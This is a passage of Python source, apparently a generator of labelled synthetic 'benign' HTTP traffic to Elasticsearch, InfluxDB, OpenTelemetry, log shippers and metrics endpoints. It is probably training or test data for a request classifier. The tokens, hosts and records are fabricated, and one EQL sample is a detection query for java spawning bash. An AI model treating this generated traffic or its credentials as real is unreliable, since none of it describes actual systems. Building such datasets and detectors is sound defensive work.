        base.update({"level": "ERROR", "logger": c.pick(["com.acme.orders.OrderController", "worker.tasks", "api.views", "ingest.pipeline"]), "message": c.pick(["Unhandled exception", "Export failed", "Request failed"]),
                     "error": {"stack_trace": c.pick(STACKS)}, "trace_id": c.hex(32)})
    elif m <= 4:
        base.update({"level": c.pick(["DEBUG", "WARN"]), "logger": c.pick(["django.db.backends", "org.hibernate.SQL", "sqlalchemy.engine", "ActiveRecord"]), "message": c.pick(ORM_LINES)})
    elif m <= 6:
        base.update({"level": "INFO", "message": nginx_line(c), "log.file.path": "/var/log/nginx/access.log"})
    elif m == 7:
        base.update({"level": "WARN", "message": f"upstream timed out (110: Connection timed out) while reading response header from upstream, client: {c.ip()}, server: shop.example.com, request: \"GET /api/v2/products?page=3 HTTP/1.1\", upstream: \"http://{c.ip()}:8080/api/v2/products?page=3\""})
    elif m == 8:
        base.update({"level": "INFO", "message": f"GET /api/orders/{c.rng.randint(10000, 99999)} 404 Not Found ({c.rng.randint(2, 40)}ms)", "http": {"method": "GET", "status_code": 404}, "user_agent": c.pick(UA_BROWSER)})
    else:
        base.update({"level": "INFO", "message": f"job reports.daily finished in {c.rng.randint(20, 900)}s, {c.rng.randint(100, 90000)} rows exported to s3://acme-reports/2026/12/05/"})
    return base


def b_es(c, n):
    idx_pool = ["logs-*", "logs-app-*,logs-nginx-*", "filebeat-8.15.3-*", "products", "orders-2026.12", "metrics-*", "traces-apm*", ".ds-logs-checkout-default-2026.12.05-000001", "logs-*,-logs-debug-*"]
    for i in range(n):
        host = c.pick(H_ES)
        ua = c.pick(["elasticsearch-py/8.15.1 (Python/3.11.9; elastic-transport/8.15.0)", "elasticsearch-java/8.15.3 (Java/21.0.5)", "opensearch-py/2.7.1", "Kibana/8.15.3", "curl/8.5.0", "Go-http-client/1.1", "elastic-transport-js/8.8.1 (linux 6.1.0-x64; Node.js v20.18.0)"])
        ex = es_extra(c)
        m = i % 13
        if m <= 3:
            idx = c.pick(idx_pool)
            params = c.pick(["", "?typed_keys=true", "?ignore_unavailable=true&allow_no_indices=true", "?track_total_hits=true&request_cache=true", "?scroll=1m", "?preference=_local"])
            if "pit" in (b := es_search_body(c)):
                idx, params = None, ""
            c.emit("benign", "es-dsl", "POST", (f"/{enc(idx, safe='*,-_.')}" if idx else "") + "/_search" + params, hdrs(c, host, ua, "application/json", extra=ex), jdump(b, ascii_only=False))
        elif m == 4:
            lines = []
            for _ in range(c.rng.randint(2, 6)):
                lines.append(jdump({"create": {"_index": c.pick(["logs-app-default", "logs-nginx.access-default"])}}))
                lines.append(jdump(app_log_record(c)))
            c.emit("benign", "es-dsl", "POST", "/_bulk" + c.pick(["", "?refresh=false", "?filter_path=errors,items.*.error"]), hdrs(c, host, ua, "application/x-ndjson", extra=ex), "\n".join(lines) + "\n")
        elif m == 5:
            lines = []
            for _ in range(c.rng.randint(2, 3)):
                lines.append(jdump({"index": c.pick(idx_pool[:4]), "preference": "dashboard-" + c.hex(8)}))
                lines.append(jdump(es_search_body(c)))
            c.emit("benign", "es-dsl", "POST", "/_msearch?rest_total_hits_as_int=true&ignore_throttled=false", hdrs(c, host, ua, "application/x-ndjson", extra=ex), "\n".join(lines) + "\n")
        elif m == 6:
            c.emit("benign", "es-dsl", "GET", c.pick([
                "/_cat/indices/logs-*?v&h=index,health,docs.count,store.size&s=store.size:desc&bytes=mb&format=json",
                "/_cluster/health?wait_for_status=yellow&timeout=50s", "/_nodes/stats/jvm,os,fs?human", "/_cat/shards?v&h=index,shard,prirep,state,unassigned.reason&s=state",
                "/_tasks?actions=*reindex&detailed=true", "/logs-*/_mapping/field/http.response.*", "/_cat/allocation?v&bytes=gb", "/_snapshot/backups/_all?verbose=false",
                "/orders/_doc/ord_88123?_source_includes=status,total,items.sku", "/_security/_authenticate", "/_cat/thread_pool/search,write?v&h=node_name,name,active,queue,rejected"]),
                hdrs(c, host, ua, extra=ex))
        elif m == 7:
            body = {"index_patterns": ["logs-app-*"], "data_stream": {}, "priority": 200, "composed_of": ["logs@mappings", "logs@settings", "ecs@mappings"],
                    "template": {"settings": {"index.lifecycle.name": "logs-30d", "number_of_replicas": 1, "index.codec": "best_compression"},
                                 "mappings": {"properties": {"trace.id": {"type": "keyword"}, "message": {"type": "match_only_text"}, "event.duration": {"type": "long"}, "user_agent.original": {"type": "keyword", "ignore_above": 1024}}}}}
            c.emit("benign", "es-dsl", "PUT", "/_index_template/logs-app", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        elif m == 8:
            body = {"policy": {"phases": {"hot": {"actions": {"rollover": {"max_primary_shard_size": "50gb", "max_age": "1d"}}}, "warm": {"min_age": "7d", "actions": {"shrink": {"number_of_shards": 1}, "forcemerge": {"max_num_segments": 1}}},
                                          "delete": {"min_age": "30d", "actions": {"delete": {}}}}}}
            c.emit("benign", "es-dsl", "PUT", "/_ilm/policy/logs-30d", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        elif m == 9:
            body = c.pick([{"source": {"index": "orders-2026.11", "query": {"term": {"status": "paid"}}}, "dest": {"index": "orders-archive-2026.11"}, "conflicts": "proceed"},
                           {"source": {"index": "logs-old", "size": 5000}, "dest": {"index": "logs-app-default", "op_type": "create"}}])
            c.emit("benign", "es-dsl", "POST", "/_reindex?wait_for_completion=false&slices=auto", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        elif m == 10:
            body = c.pick([{"script": {"source": "ctx._source.tags.add(params.tag)", "lang": "painless", "params": {"tag": "migrated"}}, "query": {"term": {"tenant": "acme"}}},
                           {"script": {"source": "ctx._source.remove('tmp_field')", "lang": "painless"}, "query": {"exists": {"field": "tmp_field"}}},
                           {"script": {"source": "if (ctx._source.qty > 0) { ctx._source.qty -= params.n } else { ctx.op = 'noop' }", "params": {"n": 1}}, "upsert": {"qty": 10}}])
            path = "/products/_update/SKU-4411" if "upsert" in body else "/logs-app-default/_update_by_query?conflicts=proceed&wait_for_completion=false"
            c.emit("benign", "es-dsl", "POST", path, hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        elif m == 11:
            q = c.pick(["FROM logs-* | WHERE http.response.status_code >= 500 | STATS count = COUNT(*) BY url.path | SORT count DESC | LIMIT 10",
                        "FROM traces-apm* | WHERE service.name == \"checkout\" AND @timestamp > NOW() - 1 hour | STATS p99 = PERCENTILE(transaction.duration.us, 99) BY transaction.name",
                        "FROM logs-nginx* | DISSECT message \"%{client} - - [%{ts}] \\\"%{method} %{path} %{proto}\\\" %{status}\" | KEEP client, path, status | LIMIT 100"])
            c.emit("benign", "es-dsl", "POST", "/_query?format=json", hdrs(c, host, ua, "application/json", extra=ex), jdump({"query": q}))
        else:
            body = c.pick([{"query": 'sequence by user.name with maxspan=1m [authentication where event.outcome == "failure"] [authentication where event.outcome == "success"]', "size": 20},
                           {"query": 'process where process.parent.name == "java" and process.name == "bash"', "filter": {"range": {"@timestamp": {"gte": "now-1d"}}}},
                           {"query": 'any where http.response.status_code >= 500 and url.path : "/api/*"'}])
            c.emit("benign", "es-dsl", "POST", "/logs-*/_eql/search", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))


def b_influx(c, n):
    for i in range(n):
        host = c.pick(H_INFLUX)
        m = i % 7
        tok = [["Authorization", f"Token {c.tok(86)}=="]]
        if m <= 1:
            q = flux_query(c)
            if c.rng.random() < 0.5:
                c.emit("benign", "influx", "POST", f"/api/v2/query?org={c.pick(['acme', 'iot-team'])}", hdrs(c, host, c.pick(["influxdb-client-python/1.47.0", "Grafana/11.3.1"]), "application/vnd.flux", extra=tok + [["Accept", "application/csv"]]), q)
            else:
                body = {"query": q, "type": "flux", "dialect": {"annotations": ["group", "datatype", "default"], "delimiter": ",", "header": True}}
                c.emit("benign", "influx", "POST", f"/api/v2/query?orgID={c.hex(16)}", hdrs(c, host, ctype="application/json", extra=tok), jdump(body))
        elif m <= 3:
            lines = []
            for _ in range(c.rng.randint(3, 8)):
                h = f"web-{c.rng.randint(1, 9):02d}"
                ts = (BASE - c.rng.randint(0, 60)) * 10 ** 9
                lines.append(c.pick([
                    f"cpu,host={h},region={c.pick(REGIONS)},cpu=cpu-total usage_user={c.rng.uniform(1, 80):.2f},usage_system={c.rng.uniform(0, 20):.2f},usage_idle={c.rng.uniform(10, 95):.2f} {ts}",
                    f"mem,host={h} used_percent={c.rng.uniform(10, 95):.3f},available={c.rng.randint(10 ** 8, 10 ** 10)}i {ts}",
                    f"http_requests,host={h},path=/api/orders,method=GET status=\"200\",duration_ms={c.rng.uniform(1, 300):.1f} {ts}",
                    f"temperature,sensor=greenhouse\\ 2,room=north celsius={c.rng.uniform(12, 35):.1f},humidity={c.rng.uniform(20, 90):.1f} {ts}",
                    f"disk,host={h},path=/,fstype=ext4 free={c.rng.randint(10 ** 9, 10 ** 11)}i,used_percent={c.rng.uniform(10, 95):.2f} {ts}"]))
            c.emit("benign", "influx", "POST", f"/api/v2/write?org=acme&bucket={c.pick(['telegraf', 'iot', 'app-metrics'])}&precision=ns", hdrs(c, host, "Telegraf/1.32.3 Go/1.23.2", "text/plain; charset=utf-8", extra=tok), "\n".join(lines) + "\n")
        elif m == 4:
            q = c.pick(["SHOW DATABASES", "SHOW MEASUREMENTS ON telegraf", 'SHOW TAG VALUES ON "telegraf" FROM "cpu" WITH KEY = "host"', "SHOW RETENTION POLICIES ON telegraf", 'SHOW FIELD KEYS ON "telegraf" FROM "mem"'])
            c.emit("benign", "influx", "GET", "/query?" + qs([("db", "telegraf"), ("q", q), ("epoch", "ms")], encp), hdrs(c, host, "Grafana/11.3.1", extra=[["Authorization", "Basic " + base64.b64encode(b"grafana:" + c.tok(12).encode()).decode()]]))
        elif m == 5:
            c.emit("benign", "influx", "GET", c.pick(["/api/v2/buckets?org=acme&limit=100", "/health", "/api/v2/dashboards?orgID=" + c.hex(16), "/ping"]), hdrs(c, host, extra=tok))
        else:
            body = {"orgID": c.hex(16), "name": c.pick(["downsample_1h", "cpu_alert"]), "description": "hourly rollup", "flux": 'option task = {name: "downsample_1h", every: 1h}\n\nfrom(bucket: "telegraf")\n  |> range(start: -task.every)\n  |> filter(fn: (r) => r._measurement == "cpu")\n  |> aggregateWindow(every: 1h, fn: mean)\n  |> to(bucket: "telegraf_1h", org: "acme")', "status": "active"}
            c.emit("benign", "influx", "POST", "/api/v2/tasks", hdrs(c, host, ctype="application/json", extra=tok), jdump(body))


def kv(k, v):
    if isinstance(v, bool):
        return {"key": k, "value": {"boolValue": v}}
    if isinstance(v, int):
        return {"key": k, "value": {"intValue": str(v)}}
    if isinstance(v, float):
        return {"key": k, "value": {"doubleValue": v}}
    return {"key": k, "value": {"stringValue": v}}


DB_STATEMENTS = [
    ("postgresql", "SELECT o.id, o.total, o.status FROM orders o WHERE o.customer_id = $1 ORDER BY o.created_at DESC LIMIT $2", "SELECT shop.orders"),
    ("postgresql", "UPDATE inventory SET reserved = reserved + $1 WHERE sku = $2", "UPDATE shop.inventory"),
    ("mysql", "SELECT p.id, p.name, p.price FROM products p JOIN categories c ON c.id = p.category_id WHERE c.slug = ? AND p.active = ? LIMIT ?", "SELECT shop.products"),
    ("postgresql", "INSERT INTO audit_log (actor_id, action, target, created_at) VALUES ($1, $2, $3, now())", "INSERT shop.audit_log"),
    ("redis", "HMGET cart:4211 items total", "HMGET"),
    ("redis", "SET session:8f2c9a ? EX 3600", "SET"),
    ("mongodb", '{"find":"events","filter":{"tenant":"?","ts":{"$gte":"?"}},"limit":"?"}', "find events"),
    ("mssql", "SELECT TOP (@p0) [i].[Id], [i].[Number] FROM [Invoices] AS [i] WHERE [i].[CustomerId] = @p1 ORDER BY [i].[IssuedAt] DESC", "SELECT Billing.Invoices"),
    ("postgresql", "SELECT count(*) FROM events WHERE created_at >= $1 AND tenant_id = $2", "SELECT analytics.events"),
]


def otlp_resource(c, svc):
    lang = c.pick(["java", "python", "go", "nodejs", "dotnet"])
    return {"attributes": [kv("service.name", svc), kv("service.version", c.pick(["2.14.0", "1.8.3", "2026.12.1"])), kv("deployment.environment", c.pick(["prod", "staging"])),
                           kv("k8s.namespace.name", c.pick(NAMESPACES)), kv("k8s.pod.name", c.pod(svc)), kv("host.name", f"ip-{c.ip().replace('.', '-')}.{c.pick(REGIONS)}.compute.internal"),
                           kv("telemetry.sdk.language", lang), kv("telemetry.sdk.name", "opentelemetry"), kv("telemetry.sdk.version", c.pick(["1.43.0", "1.28.2", "1.31.0"])),
                           kv("cloud.provider", "aws"), kv("cloud.region", c.pick(REGIONS))], "droppedAttributesCount": 0}


def otlp_spans(c, svc):
    trace = c.hex(32)
    root = c.hex(16)
    t0 = (BASE - c.rng.randint(0, 120)) * 10 ** 9 + c.rng.randint(0, 10 ** 9 - 1)
    route = c.pick(ROUTES)
    path = route.replace("{id}", str(c.rng.randint(1000, 99999)))
    status = c.pick([200, 200, 201, 404, 500, 503])
    spans = [{"traceId": trace, "spanId": root, "parentSpanId": "", "name": f"{c.pick(['GET', 'POST'])} {route}", "kind": 2, "startTimeUnixNano": str(t0), "endTimeUnixNano": str(t0 + c.rng.randint(2, 900) * 10 ** 6),
              "attributes": [kv("http.request.method", c.pick(["GET", "POST"])), kv("url.path", path), kv("url.query", c.pick(["", "expand=items&currency=EUR", "page=2&per_page=50", "q=running+shoes"])),
                             kv("url.scheme", "https"), kv("http.route", route), kv("http.response.status_code", status), kv("server.address", "shop.example.com"), kv("client.address", c.ip()),
                             kv("user_agent.original", c.pick(UA_BROWSER)), kv("network.protocol.version", "1.1")],
              "status": {"code": 2, "message": "HTTP 5xx"} if status >= 500 else {}}]
    for _ in range(c.rng.randint(1, 3)):
        sysname, stmt, name = c.pick(DB_STATEMENTS)
        t1 = t0 + c.rng.randint(1, 50) * 10 ** 6
        spans.append({"traceId": trace, "spanId": c.hex(16), "parentSpanId": root, "name": name, "kind": 3, "startTimeUnixNano": str(t1), "endTimeUnixNano": str(t1 + c.rng.randint(1, 120) * 10 ** 6),
                      "attributes": [kv("db.system", sysname), kv("db.name", c.pick(["shop", "analytics", "billing"])), kv("db.statement", stmt), kv("db.operation", name.split()[0]),
                                     kv("server.address", c.pick(["db-01.internal.example.net", "redis-master.cache.svc", "10.0.4.12"])), kv("server.port", c.pick([5432, 3306, 6379, 27017, 1433]))], "status": {}})
    if c.rng.random() < 0.5:
        t1 = t0 + c.rng.randint(1, 50) * 10 ** 6
        sp = {"traceId": trace, "spanId": c.hex(16), "parentSpanId": root, "name": "POST", "kind": 3, "startTimeUnixNano": str(t1), "endTimeUnixNano": str(t1 + c.rng.randint(5, 3000) * 10 ** 6),
              "attributes": [kv("http.request.method", "POST"), kv("url.full", c.pick(["https://payments.internal.example.net/v1/charges", "https://api.partner.example/v2/shipments?carrier=dhl", "http://inventory.prod.svc:8080/api/reserve"])),
                             kv("http.response.status_code", c.pick([200, 201, 504]))], "status": {}}
        if c.rng.random() < 0.6:
            sp["status"] = {"code": 2, "message": "Read timed out"}
            sp["events"] = [{"timeUnixNano": str(t1 + 10 ** 9), "name": "exception", "attributes": [kv("exception.type", "java.net.SocketTimeoutException"), kv("exception.message", "Read timed out"), kv("exception.stacktrace", STACKS[2]), kv("exception.escaped", True)]}]
        spans.append(sp)
    return spans


def b_otlp(c, n):
    for i in range(n):
        host = c.pick(H_OTLP)
        ua = c.pick(["OTel-OTLP-Exporter-Go/1.31.0", "OTel-OTLP-Exporter-Java/1.43.0", "OTel-OTLP-Exporter-Python/1.28.2", "OpenTelemetry Collector Contrib/0.114.0 (linux/amd64)", "Alloy/v1.5.0 (linux/amd64)", "OTel-OTLP-Exporter-JavaScript/0.55.0"])
        m = i % 5
        svc = c.pick(APPS)
        ex = [["Accept", "application/json"]] + ([["Authorization", f"Bearer {c.tok(40)}"]] if c.rng.random() < 0.4 else [])
        if m <= 1:
            body = {"resourceSpans": [{"resource": otlp_resource(c, svc), "scopeSpans": [{"scope": {"name": c.pick(["io.opentelemetry.spring-webmvc-6.0", "opentelemetry.instrumentation.django", "go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp"]), "version": "2.10.0-alpha"},
                                                                                          "spans": otlp_spans(c, svc)}], "schemaUrl": "https://opentelemetry.io/schemas/1.24.0"}]}
            c.emit("benign", "otlp", "POST", "/v1/traces", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        elif m <= 3:
            recs = []
            for _ in range(c.rng.randint(1, 4)):
                r = app_log_record(c)
                body_s = r.get("message") if "error" not in r else r["message"] + "\n" + r["error"]["stack_trace"]
                sev = {"ERROR": (17, "ERROR"), "WARN": (13, "WARN"), "INFO": (9, "INFO"), "DEBUG": (5, "DEBUG")}[r["level"]]
                recs.append({"timeUnixNano": str((BASE - c.rng.randint(0, 60)) * 10 ** 9), "observedTimeUnixNano": str(BASE * 10 ** 9), "severityNumber": sev[0], "severityText": sev[1],
                             "body": {"stringValue": body_s}, "attributes": [kv("log.file.path", f"/var/log/pods/{svc}/0.log"), kv("logger.name", r.get("logger", "root"))]
                             + ([kv("exception.type", "java.lang.IllegalStateException"), kv("exception.stacktrace", r["error"]["stack_trace"])] if "error" in r and "java" in r["error"]["stack_trace"] else []),
                             "traceId": c.hex(32) if c.rng.random() < 0.5 else "", "spanId": c.hex(16) if c.rng.random() < 0.5 else ""})
            body = {"resourceLogs": [{"resource": otlp_resource(c, svc), "scopeLogs": [{"scope": {"name": "otel.javaagent"}, "logRecords": recs}]}]}
            c.emit("benign", "otlp", "POST", "/v1/logs", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))
        else:
            t = str(BASE * 10 ** 9)
            metrics = [
                {"name": "http.server.request.duration", "unit": "s", "description": "Duration of HTTP server requests.", "histogram": {"aggregationTemporality": 2, "dataPoints": [
                    {"attributes": [kv("http.request.method", "GET"), kv("http.route", c.pick(ROUTES)), kv("http.response.status_code", 200)], "startTimeUnixNano": str((BASE - 3600) * 10 ** 9), "timeUnixNano": t,
                     "count": str(c.rng.randint(100, 90000)), "sum": c.rng.uniform(10, 9000), "bucketCounts": [str(c.rng.randint(0, 900)) for _ in range(8)], "explicitBounds": [0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5]}]}},
                {"name": "jvm.memory.used", "unit": "By", "gauge": {"dataPoints": [{"attributes": [kv("jvm.memory.pool.name", "G1 Eden Space"), kv("jvm.memory.type", "heap")], "timeUnixNano": t, "asInt": str(c.rng.randint(10 ** 7, 10 ** 9))}]}},
                {"name": "orders.created", "unit": "{order}", "sum": {"aggregationTemporality": 2, "isMonotonic": True, "dataPoints": [{"attributes": [kv("payment.method", c.pick(["card", "paypal", "sepa"]))], "startTimeUnixNano": str((BASE - 86400) * 10 ** 9), "timeUnixNano": t, "asInt": str(c.rng.randint(1, 9000))}]}},
            ]
            body = {"resourceMetrics": [{"resource": otlp_resource(c, svc), "scopeMetrics": [{"scope": {"name": "io.opentelemetry.runtime-telemetry-java17", "version": "2.10.0-alpha"}, "metrics": c.rng.sample(metrics, c.rng.randint(1, 3))}]}]}
            c.emit("benign", "otlp", "POST", "/v1/metrics", hdrs(c, host, ua, "application/json", extra=ex), jdump(body))


def b_logs(c, n):
    for i in range(n):
        m = i % 10
        if m <= 1:
            host = c.pick(H_ES)
            lines = []
            for _ in range(c.rng.randint(2, 5)):
                lines.append(jdump({"create": {"_index": "filebeat-8.15.3"}}))
                r = app_log_record(c)
                r["agent"] = {"type": "filebeat", "version": "8.15.3", "name": r["host"]}
                r["ecs"] = {"version": "8.0.0"}
                lines.append(jdump(r))
            c.emit("benign", "logs", "POST", "/_bulk", hdrs(c, host, "Elastic-filebeat/8.15.3 (linux; amd64; 4b3c1d9; 2024-10-08 16:07:14 +0000 UTC)", "application/json",
                                                        extra=[["Accept", "application/json"], ["Authorization", "ApiKey " + base64.b64encode(f"{c.tok(20)}:{c.tok(22)}".encode()).decode()], ["X-Elastic-Product-Origin", "beats"]]), "\n".join(lines) + "\n")
        elif m == 2:
            host = "splunk-hec.acme-corp.com:8088"
            evs = "".join(jdump({"time": BASE - c.rng.randint(0, 60), "host": f"web-{c.rng.randint(1, 9):02d}", "source": "/var/log/app/app.log", "sourcetype": "_json", "index": "app", "event": app_log_record(c)}) for _ in range(c.rng.randint(1, 4)))
            c.emit("benign", "logs", "POST", "/services/collector/event", hdrs(c, host, "fluent-bit/3.1.9", "application/json", extra=[["Authorization", f"Splunk {c.uuid()}"]]), evs)
        elif m == 3:
            host = "http-intake.logs.datadoghq.eu"
            arr = [{"ddsource": c.pick(["java", "python", "nginx"]), "ddtags": f"env:prod,version:2.14.0,team:{c.pick(['payments', 'data'])}", "hostname": f"web-{c.rng.randint(1, 9):02d}", "service": c.pick(APPS),
                    "message": c.pick([nginx_line(c), c.pick(ORM_LINES), c.pick(STACKS)])} for _ in range(c.rng.randint(1, 3))]
            c.emit("benign", "logs", "POST", "/api/v2/logs", hdrs(c, host, "datadog-agent/7.59.0", "application/json", extra=[["DD-API-KEY", c.hex(32)]]), jdump(arr))
        elif m == 4:
            host = "graylog.internal.example.net:12201"
            st = c.pick(STACKS)
            body = {"version": "1.1", "host": f"{c.pick(APPS)}-{c.rng.randint(1, 5):02d}", "short_message": st.splitlines()[0], "full_message": st, "timestamp": BASE - c.rng.random() * 100, "level": 3,
                    "_facility": "app", "_trace_id": c.hex(32), "_user_id": c.rng.randint(1, 9000)}
            c.emit("benign", "logs", "POST", "/gelf", hdrs(c, host, "python-requests/2.32.3", "application/json"), jdump(body))
        elif m == 5:
            host = c.pick(["logs.example.io", "ingest.internal.example.net"])
            nd = "\n".join(jdump(app_log_record(c)) for _ in range(c.rng.randint(2, 6))) + "\n"
            c.emit("benign", "logs", "POST", c.pick(["/ingest/app", "/logs", "/v1/input/" + c.hex(16)]), hdrs(c, host, c.pick(["Vector/0.42.0 (x86_64-unknown-linux-gnu 3cf70cb 2024-10-21 14:10:29.517346708)", "Logstash/8.15.3"]), "application/x-ndjson"), nd)
        elif m == 6:
            host = c.pick(["logs.example.io", "ingest.internal.example.net"])
            arr = [{"date": BASE - c.rng.random() * 60, "log": nginx_line(c), "stream": "stdout", "kubernetes": {"pod_name": c.pod("web"), "namespace_name": "prod", "container_name": "nginx", "labels": {"app": "web"}}} for _ in range(c.rng.randint(2, 6))]
            c.emit("benign", "logs", "POST", "/fluent-bit", hdrs(c, host, "Fluent-Bit", "application/json"), jdump(arr))
        elif m == 7:
            host = c.pick(["logs.example.io", "ingest.internal.example.net"])
            txt = "\n".join(c.pick(ORM_LINES + [nginx_line(c), nginx_line(c)]) for _ in range(c.rng.randint(3, 7))) + "\n"
            c.emit("benign", "logs", "POST", "/api/v1/logs/raw?source=" + c.pick(["nginx", "rails", "django"]), hdrs(c, host, "Vector/0.42.0 (x86_64-unknown-linux-gnu 3cf70cb 2024-10-21 14:10:29.517346708)", "text/plain"), txt)
        elif m == 8:
            host = c.pick(H_LOKI)
            ev = {"streams": [{"stream": {"job": "kubernetes-events", "namespace": c.pick(NAMESPACES)}, "values": [[str(BASE * 10 ** 9), jdump({"type": c.pick(["Warning", "Normal"]), "reason": c.pick(["BackOff", "Unhealthy", "Pulled", "Killing"]),
                                                                                                                                      "object": f"Pod/{c.pod()}", "message": c.pick(["Back-off restarting failed container app in pod", "Readiness probe failed: HTTP probe failed with statuscode: 503", "Successfully pulled image \"ghcr.io/acme/checkout:2.14.0\" in 3.2s", "Stopping container app"])})]]}]}
            c.emit("benign", "logs", "POST", "/loki/api/v1/push", hdrs(c, host, "Alloy/v1.5.0 (linux/amd64)", "application/json", extra=[["X-Scope-OrgID", "prod"]]), jdump(ev))
        else:
            # gzip-compressed Loki push or OTLP logs: the body is binary
            host = c.pick(H_LOKI + H_OTLP)
            if "4318" in host or "otlp" in host or "telemetry" in host:
                rec = app_log_record(c)
                body = {"resourceLogs": [{"resource": otlp_resource(c, rec["service"]), "scopeLogs": [{"scope": {"name": "otel.javaagent"}, "logRecords": [{"timeUnixNano": str(BASE * 10 ** 9), "severityText": rec["level"], "body": {"stringValue": rec["message"]}}]}]}]}
                path, ua = "/v1/logs", "OTel-OTLP-Exporter-Java/1.43.0"
            else:
                body = {"streams": [{"stream": {"app": "worker", "namespace": "prod"}, "values": [[str((BASE - k) * 10 ** 9), c.pick(LOG_MSGS).replace("<<trace>>", c.hex(32)).replace("<<uuid>>", c.uuid())] for k in range(5)]}]}
                path, ua = "/loki/api/v1/push", "promtail/3.2.1"
            gz = gzip.compress(jdump(body).encode(), mtime=0)
            c.emit("benign", "logs", None, None, None, raw=raw_request("POST", path, [("Host", host), ("User-Agent", ua), ("Content-Type", "application/json"), ("Content-Encoding", "gzip")], gz))


def remote_write(c):
    ts = []
    job = c.pick(JOBS)
    for _ in range(c.rng.randint(3, 8)):
        inst = f"{c.ip()}:8080"
        name = c.pick(["http_requests_total", "process_cpu_seconds_total", "go_goroutines", "http_request_duration_seconds_bucket", "up"])
        labels = [("__name__", name), ("code", c.pick(["200", "500"])), ("instance", inst), ("job", job), ("namespace", c.pick(NAMESPACES))]
        if name.endswith("_bucket"):
            labels.append(("le", c.pick(["0.1", "0.5", "+Inf"])))
        labels.sort()
        lb = b"".join(pb_bytes(1, pb_bytes(1, k) + pb_bytes(2, v)) for k, v in labels)
        sm = b"".join(pb_bytes(2, pb_double(1, float(c.rng.randint(0, 10 ** 6))) + pb_int(2, (BASE - 15 * k) * 1000)) for k in range(c.rng.randint(1, 4)))
        ts.append(pb_bytes(1, lb + sm))
    return b"".join(ts)


def b_metrics(c, n):
    for i in range(n):
        m = i % 7
        if m == 0:
            host = c.pick(["pushgateway.monitoring.svc:9091", "pushgateway.internal.example.net"])
            db = c.pick(["orders", "billing", "analytics"])
            txt = (f"# HELP backup_duration_seconds Duration of the nightly backup.\n# TYPE backup_duration_seconds gauge\nbackup_duration_seconds{{db=\"{db}\"}} {c.rng.uniform(100, 4000):.1f}\n"
                   f"# HELP backup_last_success_timestamp_seconds Last successful backup (unixtime).\n# TYPE backup_last_success_timestamp_seconds gauge\nbackup_last_success_timestamp_seconds{{db=\"{db}\"}} {BASE - 3600}\n"
                   f"# TYPE backup_size_bytes gauge\nbackup_size_bytes{{db=\"{db}\",compression=\"zstd\"}} {c.rng.uniform(1e9, 9e10):.4e}\n")
            c.emit("benign", "metrics", c.pick(["PUT", "POST"]), f"/metrics/job/backup/instance/db-{c.rng.randint(1, 3):02d}", hdrs(c, host, "curl/8.5.0", "text/plain; version=0.0.4"), txt)
        elif m == 1:
            host = "api.datadoghq.eu"
            body = {"series": [{"metric": c.pick(["shop.orders.count", "shop.checkout.latency", "queue.depth"]), "type": c.pick([0, 1, 3]), "points": [{"timestamp": BASE - 10 * k, "value": round(c.rng.uniform(0, 500), 2)} for k in range(3)],
                                "tags": [f"env:{c.pick(['prod', 'staging'])}", f"service:{c.pick(APPS)}", "region:eu-west-1"], "resources": [{"name": f"web-{c.rng.randint(1, 9):02d}", "type": "host"}], "unit": "request"}]}
            c.emit("benign", "metrics", "POST", "/api/v2/series", hdrs(c, host, "datadog-api-client-python/2.29.0", "application/json", extra=[["DD-API-KEY", c.hex(32)]]), jdump(body))
        elif m == 2:
            host = c.pick(["opentsdb.internal.example.net:4242", "tsdb.example.org"])
            body = [{"metric": c.pick(["sys.cpu.user", "sys.mem.free", "app.orders.rate"]), "timestamp": BASE - 10 * k, "value": round(c.rng.uniform(0, 100), 3), "tags": {"host": f"web{c.rng.randint(1, 9):02d}", "dc": "fra1"}} for k in range(c.rng.randint(1, 4))]
            c.emit("benign", "metrics", "POST", "/api/put?details", hdrs(c, host, "tcollector/1.3.2", "application/json"), jdump(body))
        elif m == 3:
            host = c.pick(["vminsert.example.org:8480", "victoria.internal.example.net:8428"])
            txt = "".join(f'node_load1{{instance="{c.ip()}:9100",job="node"}} {c.rng.uniform(0, 8):.2f} {(BASE - 15 * k) * 1000}\n' for k in range(4))
            c.emit("benign", "metrics", "POST", c.pick(["/api/v1/import/prometheus", "/insert/0/prometheus/api/v1/import/prometheus"]), hdrs(c, host, "vmagent/v1.106.1", "text/plain"), txt)
        elif m == 4:
            host = c.pick(["mimir.internal.example.net", "prometheus.monitoring.svc:9090", "vminsert.example.org:8480"])
            data = snappy_compress(remote_write(c))
            hs = [("Host", host), ("User-Agent", c.pick(["Prometheus/2.54.1", "Alloy/v1.5.0 (linux/amd64)", "vmagent/v1.106.1"])), ("Content-Type", "application/x-protobuf"), ("Content-Encoding", "snappy"), ("X-Prometheus-Remote-Write-Version", "0.1.0")]
            if "mimir" in host:
                hs.append(("X-Scope-OrgID", "prod"))
            c.emit("benign", "metrics", None, None, None, raw=raw_request("POST", "/api/v1/push" if "mimir" in host else "/api/v1/write", hs, data))
        elif m == 5:
            host = c.pick(["telegraf-http.internal.example.net:8080", "metrics.example.io"])
            body = {"metrics": [{"name": "nginx", "tags": {"host": f"web-{c.rng.randint(1, 9):02d}", "port": "80", "server": "localhost"}, "fields": {"accepts": c.rng.randint(1, 10 ** 6), "active": c.rng.randint(1, 200), "handled": c.rng.randint(1, 10 ** 6), "reading": 0, "requests": c.rng.randint(1, 10 ** 7), "waiting": c.rng.randint(0, 90), "writing": 1}, "timestamp": BASE}]}
            c.emit("benign", "metrics", "POST", "/telegraf", hdrs(c, host, "Telegraf/1.32.3 Go/1.23.2", "application/json"), jdump(body))
        else:
            host = c.pick(["statsd-http.internal.example.net", "metrics.example.io"])
            txt = "\n".join(c.pick([f"checkout.latency:{c.rng.randint(3, 900)}|ms|@0.5|#route:/checkout/confirm,env:prod", f"orders.created:1|c|#payment:card", f"queue.depth:{c.rng.randint(0, 900)}|g", f"users.active:{c.rng.randint(0, 9000)}|s"]) for _ in range(4))
            c.emit("benign", "metrics", "POST", "/v1/statsd", hdrs(c, host, "python-requests/2.32.3", "text/plain"), txt)


def b_kafka(c, n):
    for i in range(n):
